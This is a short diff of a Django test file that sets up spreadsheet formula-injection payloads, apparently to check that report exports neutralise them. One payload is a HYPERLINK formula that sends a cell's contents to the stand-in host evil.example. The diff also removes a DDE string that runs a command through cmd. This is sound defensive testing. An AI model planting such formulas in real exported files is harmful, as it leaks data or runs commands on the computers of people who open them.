@@ -19,7 +19,7 @@ pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.reports.urls")]
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
 QUOTED = "'" + EVIL
 EVIL_DEPARTMENT = '+HYPERLINK("http://evil.example/","县人民法院")'
-EVIL_SHORT = "@SUM(1+1)*cmd|' /C calc'!A0"
+EVIL_SHORT = "@SUM(1+1)"  # short_name holds 20 characters
 
 
 @pytest.fixture(autouse=True)
